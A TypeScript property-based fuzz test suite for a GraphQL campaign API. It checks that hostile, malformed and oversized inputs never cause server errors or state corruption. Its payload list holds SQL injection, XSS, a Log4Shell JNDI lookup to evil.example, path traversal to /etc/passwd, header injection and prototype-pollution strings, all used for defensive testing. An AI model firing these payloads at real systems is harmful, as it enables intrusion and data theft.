import fc from 'fast-check';
import {
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLInputType,
  type GraphQLObjectType,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSchema } from '../../src/server/schema.js';
import { startStack, type Stack } from '../helpers/stack.js';
import { newPartner } from '../graphql/support.js';
import { INPUT_PATHS } from '../../src/campaigns/mutations/input-fields.js';
import { expectNothingInternal, rest, restCampaignIds, restInfo, restPins, seeded, settle, trackUnhandledRejections } from './support.js';
import { cid, numberOf } from '../helpers/ids.js';

/**
 * Property-based fuzzing with fast-check over real HTTP. Every mutation gets valid, near-valid and
 * hostile inputs (wrong types, huge strings, control characters, emoji, SQL, script and template
 * payloads, prototype keys); the answer is a success, user errors or a typed 400, never an
 * internal error or a 5xx, and the emulator's state afterwards agrees with what each answer said.
 * Random documents within and beyond the limits only ever get GraphQL errors, each in time.
 * Seeds are fixed so a failure replays; runs are bounded to keep the file at a few seconds.
 */
const SEED = 20_240_607;
const USER_ERROR_CODES = ['REQUIRED', 'TOO_LONG', 'FORMAT', 'OUT_OF_RANGE', 'NOT_ALLOWED', 'NOT_ALLOWED_NOW', 'NOT_FOUND', 'INCORRECT_DATA', 'REPEAT_CAMPAIGN_DATA', 'CAMPAIGN_NOT_FOUND', 'FAIL_PIN', 'FAIL_FINISHED', 'FAIL_MODERATOR', 'FAIL_MERCHANT'];
/** Top-level codes a request may earn on a healthy backend: bad variables, bad documents, limits. */
const REQUEST_ERROR_CODES = ['BAD_REQUEST', 'BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED', 'GRAPHQL_PARSE_FAILED', 'QUERY_LIMIT_EXCEEDED', 'PERSISTED_QUERY_NOT_FOUND'];
const ANSWER_BUDGET_MS = 3000;

let stack: Stack;
const rejections = trackUnhandledRejections();
beforeAll(async () => {
  stack = await startStack({
    emulator: { moderation: { mode: 'manual' } },
    env: { MAX_TOKENS: '800', MAX_DEPTH: '6', MAX_ALIASES: '8', MAX_DIRECTIVES: '5', MAX_BACKEND_CALLS: '80', MAX_LIST_NODES: '3000' },
  });
});
afterAll(async () => {
  rejections.stop();
  await stack?.close();
});

// ---------------------------------------------------------------------------------------------
// Campaign inputs

/**
 * The fuzzer thinks in the campaign API's field names, to compare what it sent with the backend's
 * records field by field; the GraphQL inputs carry the same values grouped under the output's
 * names. `nest` moves each value to its place in the input (`merchantName` → `merchant.name`).
 */
function nest(flat: Record<string, unknown>): Record<string, unknown> {
  const input: Record<string, any> = {};
  for (const [field, value] of Object.entries(flat)) {
    const path = (INPUT_PATHS as Record<string, readonly string[]>)[field] ?? [field];
    if (path.length === 1) input[path[0]!] = value;
    else (input[path[0]!] ??= {})[path[1]!] = value;
  }
  return input;
}

/** A valid promo campaign, flat: the campaign API's names, the GraphQL API's enum values. */
const flatPromo = (partnerCampaignId: number): Record<string, unknown> => ({
  partnerCampaignId,
  categoryId: '2',
  campaignType: 'PROMO',
  acceptUrl: 'https://shop.example.ru/promo',
  merchantDomain: 'shop.example.ru',
  merchantLogoSvg: 'https://shop.example.ru/logo.svg',
  merchantLogoPng: 'https://shop.example.ru/logo.png',
  merchantName: 'Магазин',
  backgroundColor: '#1A237E',
  fontColor: '#FFFFFF',
  description: 'Скидка на всё',
  conditions: 'При заказе от 1000 рублей',
  discountType: 'PERCENT',
  discountAmount: '15',
  campaignFee: '5',
  feeType: 'PERCENT',
});

// ---------------------------------------------------------------------------------------------
// Value pools

const PAYLOADS = [
  "'; DROP TABLE campaigns; --",
  '" OR "1"="1',
  "1' UNION SELECT token FROM partners --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '\u0000',
  'a\u0000b\u0001c\u001fd\u007f',
  '\r\nSet-Cookie: x=1',
  '\u202Eгазин',
  '😀🎉🔥',
  '👨‍👩‍👧‍👦 семья',
  'Скидка 💸 сегодня',
  '\uD800',
  '\uFFFF\uFFFE',
  '%00%0d%0a',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  '0x1F',
  ' ',
  '',
];

/** Any text: payloads, arbitrary code points (lone surrogates and control characters included), huge strings. */
const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PAYLOADS) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('Я', 'x', '😀', '\u0007'), fc.integer({ min: 300, max: 200_000 })).map(([c, n]) => c.repeat(n)) },
);

/** Values of the wrong GraphQL type for a String field: the request is refused as a whole (400). */
const wrongType = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant({ nested: 'object' }), fc.constant(['list']));

const cyrillicText = (max: number) =>
  fc
    .tuple(fc.constantFrom('Скидка', 'Подарок', 'Бонус', 'Акция', 'Выгода'), fc.string({ unit: 'grapheme', maxLength: max - 10 }))
    .map(([word, tail]) => `${word} ${tail}`.slice(0, max));

const money = fc.oneof(fc.integer({ min: 0, max: 100_000 }).map(String), fc.tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 99 })).map(([a, b]) => `${a}.${String(b).padStart(2, '0')}`));

const DARK = ['#1A237E', '#000', '#1B5E20', '#4A148C', '#B71C1C', '#0D47A1', '#3E2723'];

/** A valid createCampaign input of every campaign kind. */
const validCreate = fc
  .record({
    kind: fc.constantFrom('PROMO', 'BANNER', 'CODE_ONLINE_ONE_OFF', 'CODE_OFFLINE_REUSABLE'),
    merchantName: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).filter((s) => s.trim().length > 0),
    description: cyrillicText(90),
    conditions: cyrillicText(512),
    discount: fc.oneof(
      fc.integer({ min: 1, max: 100 }).map((n) => ({ discountType: 'PERCENT', discountAmount: String(n) })),
      money.filter((m) => m.length <= 30).map((m) => ({ discountType: 'FIX', discountAmount: m })),
      cyrillicText(30).map((t) => ({ discountType: 'TEXT', discountAmount: t })),
    ),
    campaignFee: money,
    backgroundColor: fc.constantFrom(...DARK),
  })
  .map(({ kind, discount, ...rest }) => {
    const byKind: Record<string, Record<string, unknown>> = {
      PROMO: {},
      BANNER: { campaignType: 'BANNER', appearanceType: 'IMAGE_BANNER', backgroundImage: 'https://shop.example.ru/banner.png' },
      CODE_ONLINE_ONE_OFF: { campaignType: 'CODE_ONLINE', pinType: 'ONE_OFF', pinDisplayType: 'TEXT' },
      CODE_OFFLINE_REUSABLE: { campaignType: 'CODE_OFFLINE', acceptUrl: null, pinType: 'REUSABLE', pinDisplayType: 'TEXT', couponCode: 'КОД-2024' },
    };
    return { ...byKind[kind], ...discount, ...rest };
  });

/** Off by a little, on a valid PROMO input: each breaks exactly one rule a form would have to explain. */
const NEAR_VALID: Record<string, unknown>[] = [
  { description: 'Discount for everyone' },
  { description: 'Я'.repeat(91) },
  { description: '' },
  { conditions: 'Я'.repeat(513) },
  { backgroundColor: '#FFF' },
  { backgroundColor: '#12345' },
  { backgroundColor: 'navy' },
  { fontColor: '#1A237F' },
  { merchantDomain: 'https://shop.example.ru' },
  { merchantDomain: 'www.shop.example.ru' },
  { merchantDomain: 'shop.example.ru/' },
  { merchantDomain: '-shop.ru' },
  { discountType: 'PERCENT', discountAmount: '0' },
  { discountType: 'PERCENT', discountAmount: '100.01' },
  { discountType: 'FIX', discountAmount: '15.555' },
  { discountType: 'FIX', discountAmount: '1e2' },
  { discountType: 'TEXT', discountAmount: 'Gift' },
  { campaignFee: '1.001' },
  { campaignFee: '-1' },
  { campaignFee: ' 5' },
  { campaignFee: null, campaignFeeMin: '10', campaignFeeMax: '5' },
  { campaignFeeMin: '1', campaignFeeMax: '5' },
  { acceptUrl: 'ftp://shop.example.ru' },
  { acceptUrl: 'javascript:alert(1)' },
  { acceptUrl: null },
  { merchantLogoSvg: `https://${'a'.repeat(300)}.ru/logo.svg` },
  { categoryId: '0' },
  { categoryId: '999' },
  { categoryId: 'abc' },
  { categoryId: '1.5' },
  { partnerCampaignId: -7 },
  { campaignEnd: '2020-01-01T00:00:00Z' },
  { campaignStart: 'tomorrow' },
  { campaignStart: '2030-02-01T00:00:00Z', campaignEnd: '2030-01-01T00:00:00Z' },
  { offerDuration: 0 },
  { offerDuration: 100_001 },
  { supportedPlatforms: [] },
  { discountCurrency: 'USD' },
  { campaignType: 'CODE' },
  { campaignType: 'UNKNOWN' },
  { campaignType: 'CODE_ONLINE' },
  { pinType: 'ONE_OFF', pinDisplayType: 'TEXT', couponCode: 'NOPE', campaignType: 'CODE_ONLINE' },
  { feeCurrency: 'UNKNOWN' },
  { cashbackConfirmTime: 3651 },
];
const STRING_FIELDS = ['merchantName', 'description', 'conditions', 'merchantDomain', 'backgroundColor', 'fontColor', 'discountAmount', 'campaignFee', 'acceptUrl', 'couponCode', 'merchantLogoPng'];

type Variant = { label: 'valid' | 'near-valid' | 'hostile' | 'wrong type'; input: Record<string, unknown> };

/** Valid, near-valid (one rule broken), hostile (1-3 fields replaced) and wrongly typed inputs. */
function variants(valid: fc.Arbitrary<Record<string, unknown>>, near: fc.Arbitrary<Record<string, unknown>>, fields: string[]): fc.Arbitrary<Variant> {
  return fc.oneof(
    valid.map((input) => ({ label: 'valid' as const, input })),
    fc.tuple(near, fc.constantFrom(...NEAR_VALID)).map(([input, patch]) => ({ label: 'near-valid' as const, input: { ...input, ...patch } })),
    fc
      .tuple(valid, fc.uniqueArray(fc.tuple(fc.constantFrom(...fields), hostileString), { minLength: 1, maxLength: 3, selector: ([k]) => k }))
      .map(([input, replaced]) => ({ label: 'hostile' as const, input: { ...input, ...Object.fromEntries(replaced) } })),
    fc.tuple(valid, fc.constantFrom(...fields), wrongType).map(([input, key, value]) => ({ label: 'wrong type' as const, input: { ...input, [key]: value } })),
  );
}

// ---------------------------------------------------------------------------------------------
// Answer checks

interface Answer {
  status: number;
  body: any;
  elapsedMs: number;
}

async function send(query: string, variables: Record<string, unknown>, token: string, rawInputPrefix?: string): Promise<Answer> {
  let body = JSON.stringify({ query, variables });
  // A key JSON.stringify cannot produce from an object literal: `"__proto__"` inside the input.
  if (rawInputPrefix) body = body.replace('"input":{', `"input":{${rawInputPrefix}`);
  const started = performance.now();
  const response = await fetch(stack.bffUrl, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body });
  const text = await response.text();
  return { status: response.status, body: JSON.parse(text), elapsedMs: performance.now() - started };
}

/**
 * The payload of `field`, or null when the request was refused as a whole. Fails on a 5xx, an
 * internal error, a backend error (the backend is healthy here), a malformed user error or a slow answer.
 */
function payloadOf(answer: Answer, field: string, token: string): any | null {
  expect(answer.status, JSON.stringify(answer.body).slice(0, 500)).toBeLessThan(500);
  expect(answer.elapsedMs).toBeLessThan(ANSWER_BUDGET_MS);
  expectNothingInternal(answer.body, [token]);
  if (answer.status === 400) {
    expect(answer.body.data).toBeUndefined();
    for (const error of answer.body.errors) expect(REQUEST_ERROR_CODES).toContain(error.extensions.code);
    return null;
  }
  expect(answer.status).toBe(200);
  expect(answer.body.errors, JSON.stringify(answer.body.errors)).toBeUndefined();
  const payload = answer.body.data[field];
  for (const error of payload.userErrors) {
    expect(USER_ERROR_CODES).toContain(error.code);
    expect(typeof error.message).toBe('string');
    expect(error.message.length).toBeGreaterThan(0);
    expect(error.message.length).toBeLessThan(2000); // huge inputs are never echoed whole
    if (error.field !== null) expect(error.field.every((part: unknown) => typeof part === 'string')).toBe(true);
  }
  return payload;
}

const CREATE = `mutation ($input: CreateCampaignInput!) { createCampaign(input: $input) { campaign { id status } userErrors { field message code } } }`;
const UPDATE = `mutation ($input: UpdateCampaignInput!) { updateCampaign(input: $input) { campaign { id status } userErrors { field message code } } }`;
const ADD_PINS = `mutation ($input: AddPinsInput!) { addPins(input: $input) { campaign { id } addedCount duplicateCount alreadyPresentCount storedCount notStoredPins userErrors { field message code } } }`;
const REPORT = `mutation ($input: ReportLeadInput!) { reportLead(input: $input) { lead { transactionId state redeemStatus } userErrors { field message code } } }`;
const STATUS: Record<string, string> = { moderation: 'MODERATION', declined: 'DECLINED', 'pin-required': 'PIN_REQUIRED', started: 'STARTED', paused: 'PAUSED', finished: 'FINISHED' };

describe('fuzzing every mutation', () => {
  it('createCampaign: success or user errors; the backend holds exactly the campaigns reported created, as sent', async () => {
    const token = await newPartner(stack, 'store');
    const created = new Map<number, Record<string, unknown>>();
    const seen = { valid: 0, 'near-valid': 0, hostile: 0, 'wrong type': 0, succeeded: 0 };
    await fc.assert(
      fc.asyncProperty(
        variants(validCreate.map((v) => ({ ...flatPromo(0), ...v })), fc.constant(flatPromo(0)), STRING_FIELDS),
        // Now and then a partnerCampaignId used before: a replacement, or REPEAT_CAMPAIGN_DATA.
        // Any integer the campaign API takes, up to 2^53 − 1 (SafeInt), not only 32-bit ones.
        fc.oneof({ weight: 1, arbitrary: fc.integer({ min: 1, max: 12 }) }, { weight: 2, arbitrary: fc.integer({ min: 13, max: 2 ** 31 - 1 }) }, { weight: 2, arbitrary: fc.maxSafeNat().filter((n) => n > 12) }),
        fc.boolean(),
        async ({ label, input }, partnerCampaignId, pollute) => {
          const full = { ...input, partnerCampaignId: input.partnerCampaignId === 0 ? partnerCampaignId : (input.partnerCampaignId ?? partnerCampaignId) };
          seen[label]++;
          const answer = await send(CREATE, { input: nest(full) }, token, pollute ? '"__proto__":{"polluted":"yes"},' : undefined);
          const payload = payloadOf(answer, 'createCampaign', token);
          if (pollute || label === 'wrong type') expect(payload, 'refused as a whole').toBeNull();
          if (payload === null) return;
          if (payload.userErrors.length === 0) {
            expect(payload.campaign.status).toBe('MODERATION');
            created.set(full.partnerCampaignId as number, full);
            seen.succeeded++;
          } else {
            expect(payload.campaign).toBeNull();
          }
          if (label === 'near-valid') expect(payload.userErrors.length, `near-valid input accepted: ${JSON.stringify(full).slice(0, 300)}`).toBeGreaterThan(0);
        },
      ),
      { numRuns: 120, seed: SEED },
    );
    expect(({} as Record<string, unknown>).polluted, 'no prototype pollution').toBeUndefined();
    expect(seen.succeeded).toBeGreaterThan(10);

    // The backend: one campaign per partnerCampaignId reported created, holding what was sent last.
    const ids = await restCampaignIds(stack, token);
    expect(ids).toHaveLength(created.size);
    const records = await Promise.all(ids.map(async (id) => (await rest(stack, 'campaigns/get', token, { ymCampaignId: id })).result));
    for (const record of records) {
      const sent = created.get(record.partnerCampaignId)!;
      expect(sent, `campaign ${record.partnerCampaignId} was never reported created`).toBeDefined();
      for (const field of ['merchantName', 'description', 'conditions', 'discountAmount', 'campaignFee', 'merchantDomain']) {
        expect(record[field], `${field} of ${record.partnerCampaignId}`).toBe(sent[field]);
      }
    }
  });

  it('updateCampaign: the backend holds what the successful updates set, and nothing of the refused ones', async () => {
    const token = await newPartner(stack, 'store');
    // Two campaigns the updates work on, by id; ids it never had and malformed ones are refused.
    const model = new Map<string, Record<string, unknown>>();
    for (const partnerCampaignId of [501, 502]) {
      const input = flatPromo(partnerCampaignId);
      const answer = await send(CREATE, { input: nest(input) }, token);
      expect(answer.body.data.createCampaign.userErrors).toEqual([]);
      model.set(answer.body.data.createCampaign.campaign.id, { ...input });
    }
    const FIELDS = ['merchantName', 'description', 'conditions', 'merchantDomain', 'backgroundColor', 'fontColor', 'discountAmount', 'campaignFee', 'campaignFeeMin', 'campaignFeeMax'];
    const validUpdate = fc.record(
      {
        merchantName: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).filter((s) => s.trim().length > 0),
        description: cyrillicText(90),
        conditions: cyrillicText(512),
        discountAmount: fc.integer({ min: 1, max: 100 }).map(String),
        campaignFee: money,
        backgroundColor: fc.constantFrom(...DARK),
      },
      { requiredKeys: [] },
    );
    let succeeded = 0;
    await fc.assert(
      fc.asyncProperty(variants(validUpdate, fc.constant({}), FIELDS.slice(0, 8)), fc.constantFrom(...model.keys(), '987654', '9', '0', '-1', 'abc'), async ({ label, input }, id) => {
        const full: Record<string, unknown> = { ...input, id };
        const answer = await send(UPDATE, { input: nest(full) }, token);
        const payload = payloadOf(answer, 'updateCampaign', token);
        if (label === 'wrong type') expect(payload).toBeNull();
        if (payload === null || payload.userErrors.length) return;
        const record = model.get(id);
        expect(record, `update of campaign ${id}, which this partner does not have, succeeded`).toBeDefined();
        // What the schema promises: only the fields given change, null clears, a fee form replaces the other.
        const given = (f: string) => input[f] !== undefined && input[f] !== null;
        if (given('campaignFee')) for (const f of ['campaignFeeMin', 'campaignFeeMax']) delete record![f];
        if (given('campaignFeeMin') || given('campaignFeeMax')) delete record!.campaignFee;
        for (const [field, value] of Object.entries(input)) {
          if (value === null) delete record![field];
          else if (value !== undefined) record![field] = value;
        }
        succeeded++;
      }),
      { numRuns: 80, seed: SEED + 1 },
    );
    expect(succeeded).toBeGreaterThan(5);
    const ids = await restCampaignIds(stack, token);
    expect(ids.map(cid).sort()).toEqual([...model.keys()].sort());
    for (const id of ids) {
      const { result } = await rest(stack, 'campaigns/get', token, { ymCampaignId: id });
      const expected = model.get(cid(id))!;
      for (const field of FIELDS) expect(result[field], `${field} of ${id}`).toBe(expected[field]);
    }
  });

  it('startCampaign and stopCampaign on any id: the reported status is the backend\'s, foreign campaigns never show', async () => {
    await stack.admin('reset', {});
    const token = 'demo-store-token';
    const own = new Set((await restCampaignIds(stack, token)).map(String));
    const id = fc.oneof(
      fc.constantFrom(...own),
      fc.constantFrom(...[...own].map((n) => cid(Number(n)))),
      fc.constantFrom('9', '10', '15', cid(9), cid(15)), // the aggregator's
      fc.constantFrom('01', '1.0', '+1', '1e0', ' 1', '0', '-1', '9007199254740993', '99999999999999999999', '١'),
      hostileString,
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('startCampaign', 'stopCampaign'), id, async (mutation, campaignId) => {
        const answer = await send(`mutation ($id: ID!) { ${mutation}(id: $id) { campaign { id status } userErrors { field message code } } }`, { id: campaignId }, token);
        const payload = payloadOf(answer, mutation, token);
        expect(payload).not.toBeNull();
        if (payload.campaign === null) {
          expect(payload.userErrors.length).toBeGreaterThan(0);
          return;
        }
        const number = String(numberOf(payload.campaign.id));
        expect(own, `${mutation}(${JSON.stringify(campaignId)}) returned campaign ${number}`).toContain(number);
        // No lenient id parsing: "01" is not campaign 1; its id and its number as digits are.
        expect([payload.campaign.id, number]).toContain(campaignId);
        const { result } = await rest(stack, 'campaigns/get', token, { ymCampaignId: numberOf(payload.campaign.id) });
        expect(payload.campaign.status).toBe(STATUS[result.campaignStatus]);
      }),
      { numRuns: 100, seed: SEED + 2 },
    );
  });

  it('addPins: the backend has exactly the pins reported stored, once each, and the counts add up', async () => {
    const token = await newPartner(stack, 'store');
    const create = await send(CREATE, { input: nest({ ...flatPromo(601), campaignType: 'CODE_OFFLINE', acceptUrl: null, pinType: 'ONE_OFF', pinDisplayType: 'TEXT' }) }, token);
    const campaignId = create.body.data.createCampaign.campaign.id;
    await stack.admin('moderate', { ymCampaignId: numberOf(campaignId), decision: 'approve' });
    const stored = new Set<string>();
    const used: string[] = [];
    const pin = fc.oneof(
      { weight: 5, arbitrary: fc.stringMatching(/^[A-Z0-9-]{1,12}$/) },
      { weight: 2, arbitrary: fc.nat().map((n) => used[n % Math.max(used.length, 1)] ?? 'FIRST').map((p) => (p.length % 2 ? p.toLowerCase() : p.toUpperCase())) },
      { weight: 1, arbitrary: fc.constantFrom(' LEADING', 'TRAILING ', '', 'Я'.repeat(256), 'Я'.repeat(255), 'TAB\tIN', 'ПИН-1', '😀-PIN', "PIN'; DROP TABLE pins; --", '<b>PIN</b>') },
      { weight: 1, arbitrary: hostileString },
    );
    let succeeded = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(pin, { minLength: 0, maxLength: 30 }), async (pins) => {
        const answer = await send(ADD_PINS, { input: { campaignId, pins } }, token);
        const payload = payloadOf(answer, 'addPins', token);
        expect(payload).not.toBeNull();
        const keys = [...new Set(pins.map((p) => p.toLowerCase()))];
        if (payload.userErrors.length === 0) {
          const fresh = keys.filter((k) => !stored.has(k));
          expect(payload).toMatchObject({ storedCount: keys.length, addedCount: fresh.length, alreadyPresentCount: keys.length - fresh.length, duplicateCount: pins.length - keys.length, notStoredPins: [] });
          for (const k of keys) stored.add(k);
          used.push(...pins);
          succeeded++;
        } else {
          expect(payload).toMatchObject({ storedCount: 0, addedCount: 0, alreadyPresentCount: 0, duplicateCount: 0 });
        }
        const backend = await restPins(stack, token, numberOf(campaignId));
        expect(backend.length, 'no pin twice').toBe(new Set(backend.map((p) => p.toLowerCase())).size);
        expect(new Set(backend.map((p) => p.toLowerCase()))).toEqual(stored);
      }),
      { numRuns: 60, seed: SEED + 3 },
    );
    expect(succeeded).toBeGreaterThan(10);
  });

  it('reportLead: the backend counts exactly the distinct transactions reported accepted', async () => {
    const token = await newPartner(stack, 'aggregator');
    const create = await send(CREATE, { input: nest(flatPromo(701)) }, token);
    const campaignId = create.body.data.createCampaign.campaign.id;
    expect(create.body.data.createCampaign.campaign.status).toBe('STARTED'); // an aggregator's goes live at upload
    const clicks: string[] = [];
    for (let i = 0; i < 40; i++) clicks.push((await stack.admin('accept', { ymCampaignId: numberOf(campaignId) })).clickId);
    const accepted = new Set<string>();
    const lead = fc.record(
      {
        transactionId: fc.oneof(fc.integer({ min: 1, max: 30 }).map((n) => `order-${n}`), fc.constantFrom('', 'x'.repeat(37), 'Заказ №1', '😀'), hostileString),
        clickId: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...clicks) }, { weight: 1, arbitrary: hostileString }),
        campaignFee: fc.oneof({ weight: 3, arbitrary: money }, { weight: 1, arbitrary: fc.constantFrom('1.001', '-5', 'abc', '1e3', '') }, { weight: 1, arbitrary: hostileString }),
        redeemStatus: fc.constantFrom('USED', 'APPROVED', 'DECLINED'),
        orderAmount: money,
        sceneRedeem: hostileString,
        redeemTime: fc.constantFrom('2026-03-01T12:00:00+03:00', 'yesterday', '2026-13-01T00:00:00Z'),
      },
      { requiredKeys: ['transactionId', 'campaignFee'] },
    );
    let succeeded = 0;
    await fc.assert(
      fc.asyncProperty(lead, async (input) => {
        const answer = await send(REPORT, { input: { campaignId, ...input } }, token);
        const payload = payloadOf(answer, 'reportLead', token);
        expect(payload).not.toBeNull();
        if (payload.userErrors.length === 0) {
          expect(payload.lead).toMatchObject({ transactionId: input.transactionId, state: 'PROCESSING' });
          accepted.add(input.transactionId);
          succeeded++;
        } else {
          expect(payload.lead).toBeNull();
        }
      }),
      { numRuns: 80, seed: SEED + 4 },
    );
    expect(succeeded).toBeGreaterThan(5);
    expect((await restInfo(stack, token, numberOf(campaignId))).campaignRedeems).toBe(accepted.size);
  });

  it('a huge value is never echoed whole in a user error (what the fuzzer first found)', async () => {
    const token = await newPartner(stack, 'store');
    const huge = '9'.repeat(100_000);
    for (const patch of [
      { discountType: 'PERCENT', discountAmount: huge },
      { discountType: 'FIX', discountAmount: `${huge}.999` },
      { campaignFee: null, campaignFeeMin: huge, campaignFeeMax: '1' },
    ]) {
      const answer = await send(CREATE, { input: nest({ ...flatPromo(801), ...patch }) }, token);
      const payload = payloadOf(answer, 'createCampaign', token);
      expect(payload.userErrors.length).toBeGreaterThan(0);
      expect(JSON.stringify(answer.body).length, JSON.stringify(patch).slice(0, 80)).toBeLessThan(2000);
    }
  });

  it('left no unhandled rejection behind', async () => {
    await settle();
    expect(rejections.list).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// Documents

const schema = createSchema();

interface Picker {
  /** A whole number from min to max, both included. */
  int(min: number, max: number): number;
  bool(): boolean;
}

function seededPicker(seed: number): Picker {
  const next = seeded(seed);
  return { int: (min, max) => min + Math.floor(next() * (max - min + 1)), bool: () => next() < 0.5 };
}

/** A literal for an argument: mostly sensible, sometimes out of bounds (which is BAD_USER_INPUT). */
function argumentLiteral(type: GraphQLInputType, random: Picker): string | undefined {
  const named = getNamedType(type);
  if (isListType(getNullableType(type))) {
    const n = random.int(0, 4);
    return `[${Array.from({ length: n }, () => argumentLiteral(named as GraphQLInputType, random)).join(', ')}]`;
  }
  if (isEnumType(named)) {
    const values = named.getValues();
    return values[random.int(0, values.length - 1)]!.name;
  }
  if (isInputObjectType(named)) return undefined;
  switch (named.name) {
    case 'ID':
      return JSON.stringify(['1', '2', '3', '9', '42', 'abc', '0'][random.int(0, 6)]);
    case 'Int':
      return String([0, 1, 3, 20, 100, 1000, 5000, -1][random.int(0, 7)]);
    case 'String':
      return JSON.stringify(['ru-RU', 'en-US', 'xx', '', 'bad locale'][random.int(0, 4)]);
    case 'Boolean':
      return random.bool() ? 'true' : 'false';
    default:
      return undefined;
  }
}

/** A random selection on `type`, `depth` levels at most, with random aliases and directives. */
function selection(type: GraphQLObjectType, depth: number, random: Picker): string {
  const fields = Object.values(type.getFields());
  const picked = new Set<number>();
  const count = random.int(1, Math.min(4, fields.length));
  while (picked.size < count) picked.add(random.int(0, fields.length - 1));
  const parts: string[] = [];
  for (const index of picked) {
    const field = fields[index]!;
    const named = getNamedType(field.type);
    if (isObjectType(named) && depth <= 0) continue;
    const args = field.args
      .filter((a: GraphQLArgument) => isNonNullType(a.type) || random.int(0, 2) === 0)
      .map((a) => [a.name, argumentLiteral(a.type, random)] as const)
      .filter(([, v]) => v !== undefined)
      .map(([k, v]) => `${k}: ${v}`);
    if (field.args.some((a) => isNonNullType(a.type) && argumentLiteral(a.type, random) === undefined)) continue;
    const alias = random.int(0, 3) === 0 ? `a${random.int(0, 999)}: ` : '';
    const directive = random.int(0, 4) === 0 ? (random.bool() ? ' @include(if: true)' : ' @skip(if: false)') : '';
    const sub = isObjectType(named) ? ` { ${selection(named, depth - 1, random)} }` : '';
    parts.push(`${alias}${field.name}${args.length ? `(${args.join(', ')})` : ''}${directive}${sub}`);
  }
  return parts.length ? parts.join(' ') : '__typename';
}

/**
 * Documents built from the schema, 1 to 8 levels deep and up to 2 selections wide, some with an
 * alias or directive flood on top: within and beyond the limits.
 */
const documents = fc
  .record({ depth: fc.integer({ min: 1, max: 8 }), repeat: fc.integer({ min: 1, max: 2 }), seed: fc.nat(), flood: fc.constantFrom('none', 'none', 'none', 'aliases', 'directives'), n: fc.integer({ min: 2, max: 14 }) })
  .map(({ depth, repeat, seed, flood, n }) => {
    const random = seededPicker(seed);
    const query = schema.getQueryType()!;
    const parts = Array.from({ length: repeat }, () => selection(query, depth, random));
    if (flood === 'aliases') parts.push(Array.from({ length: n }, (_, i) => `t${i}: __typename`).join(' '));
    if (flood === 'directives') parts.push(`__typename${' @include(if: true)'.repeat(n)}`);
    return `{ ${parts.join(' ')} }`;
  });

describe('fuzzing documents', () => {
  let token: string;
  beforeAll(async () => {
    await stack.admin('reset', {});
    token = 'demo-store-token';
    await send('{ categories { id } }', {}, token);
  });

  it('random documents within and beyond the limits get data or GraphQL errors, each in time', async () => {
    const outcomes: Record<string, number> = {};
    await fc.assert(
      fc.asyncProperty(documents, async (query) => {
        const answer = await send(query, {}, token);
        expect(answer.status, query).toBeLessThan(500);
        expect(answer.elapsedMs, query).toBeLessThan(ANSWER_BUDGET_MS);
        expectNothingInternal(answer.body, [token]);
        for (const error of answer.body.errors ?? []) {
          expect(REQUEST_ERROR_CODES, `${query}\n${JSON.stringify(error)}`).toContain(error.extensions.code);
          const kind = /limit/i.test(error.message) ? 'limit' : error.extensions.code;
          outcomes[kind] = (outcomes[kind] ?? 0) + 1;
        }
        if (answer.status === 400) expect(answer.body.data).toBeUndefined();
        outcomes[`HTTP ${answer.status}`] = (outcomes[`HTTP ${answer.status}`] ?? 0) + 1;
      }),
      { numRuns: 150, seed: SEED + 5 },
    );
    // Both sides of the limits were exercised.
    expect(outcomes['HTTP 200']).toBeGreaterThan(10);
    expect(outcomes.limit).toBeGreaterThan(10);
  });

  it('random text as a document is a parse error, never anything worse', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.stringMatching(/^[{}()[\]:@$!.a-z "]{1,300}$/), hostileString), async (query) => {
        const answer = await send(query, {}, token);
        expect(answer.status).toBeLessThan(500);
        expect(answer.elapsedMs).toBeLessThan(ANSWER_BUDGET_MS);
        expectNothingInternal(answer.body, [token]);
        for (const error of answer.body.errors ?? []) expect(REQUEST_ERROR_CODES).toContain(error.extensions.code);
      }),
      { numRuns: 150, seed: SEED + 6 },
    );
    await settle();
    expect(rejections.list).toEqual([]);
  });
});
